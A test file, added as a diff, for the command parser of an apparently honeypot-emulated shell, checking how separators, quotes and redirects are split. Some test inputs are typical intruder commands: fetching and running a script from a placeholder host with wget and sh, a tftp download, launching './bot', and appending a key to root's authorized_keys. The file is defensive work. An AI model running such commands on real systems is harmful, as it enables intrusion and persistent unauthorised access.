@@ -1,0 +1,83 @@
+"""Tests for shell command-line parsing."""
+
+from repro.honeypot.shell.parser import split_command_line
+
+
+class TestSplitting:
+    def test_single_command(self):
+        cmds = split_command_line("uname -a")
+        assert len(cmds) == 1
+        assert cmds[0].argv == ["uname", "-a"]
+
+    def test_semicolon(self):
+        cmds = split_command_line("uname; free")
+        assert [c.name for c in cmds] == ["uname", "free"]
+
+    def test_pipe(self):
+        cmds = split_command_line("cat /proc/cpuinfo | grep name | wc -l")
+        assert [c.name for c in cmds] == ["cat", "grep", "wc"]
+
+    def test_and_and(self):
+        cmds = split_command_line("cd /tmp && wget http://x/y && sh y")
+        assert [c.name for c in cmds] == ["cd", "wget", "sh"]
+
+    def test_or_or(self):
+        cmds = split_command_line("wget http://x/y || tftp -g x")
+        assert [c.name for c in cmds] == ["wget", "tftp"]
+
+    def test_mixed_separators(self):
+        cmds = split_command_line("a; b && c | d || e")
+        assert [c.name for c in cmds] == ["a", "b", "c", "d", "e"]
+
+    def test_semicolon_inside_quotes_preserved(self):
+        cmds = split_command_line('echo "a; b"')
+        assert len(cmds) == 1
+        assert cmds[0].argv == ["echo", "a; b"]
+
+    def test_pipe_inside_quotes_preserved(self):
+        cmds = split_command_line("echo 'x | y'")
+        assert len(cmds) == 1
+
+    def test_empty_segments_dropped(self):
+        cmds = split_command_line("a;; ;b")
+        assert [c.name for c in cmds] == ["a", "b"]
+
+    def test_trailing_background_ampersand(self):
+        cmds = split_command_line("./bot &")
+        assert len(cmds) == 1
+        assert cmds[0].name == "./bot"
+
+    def test_empty_line(self):
+        assert split_command_line("") == []
+        assert split_command_line("   ") == []
+
+
+class TestRedirection:
+    def test_truncating_redirect(self):
+        cmd = split_command_line("echo hi > /tmp/f")[0]
+        assert cmd.argv == ["echo", "hi"]
+        assert cmd.redirect_path == "/tmp/f"
+        assert not cmd.redirect_append
+
+    def test_append_redirect(self):
+        cmd = split_command_line('echo "key" >> /root/.ssh/authorized_keys')[0]
+        assert cmd.redirect_append
+        assert cmd.redirect_path == "/root/.ssh/authorized_keys"
+
+    def test_redirect_inside_quotes_ignored(self):
+        cmd = split_command_line('echo "a > b"')[0]
+        assert cmd.redirect_path is None
+        assert cmd.argv == ["echo", "a > b"]
+
+    def test_redirect_then_semicolon(self):
+        cmds = split_command_line("echo x > /tmp/f; cat /tmp/f")
+        assert cmds[0].redirect_path == "/tmp/f"
+        assert cmds[1].name == "cat"
+
+    def test_text_field_keeps_original(self):
+        cmd = split_command_line("echo x > f")[0]
+        assert cmd.text == "echo x > f"
+
+    def test_redirect_without_target(self):
+        cmd = split_command_line("echo x >")[0]
+        assert cmd.redirect_path is None
